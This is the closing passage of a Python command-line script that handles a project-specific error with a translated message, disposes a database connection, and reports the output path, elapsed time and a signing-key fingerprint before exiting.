    except BeiduiError as err:
        print(t(err.key, args.lang, **err.params), file=sys.stderr)
        return 1
    finally:
        instance.db.dispose()
    elapsed = time.perf_counter() - started
    print(f"{path} ({elapsed:.1f} s, {signing_fingerprint(key)})")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
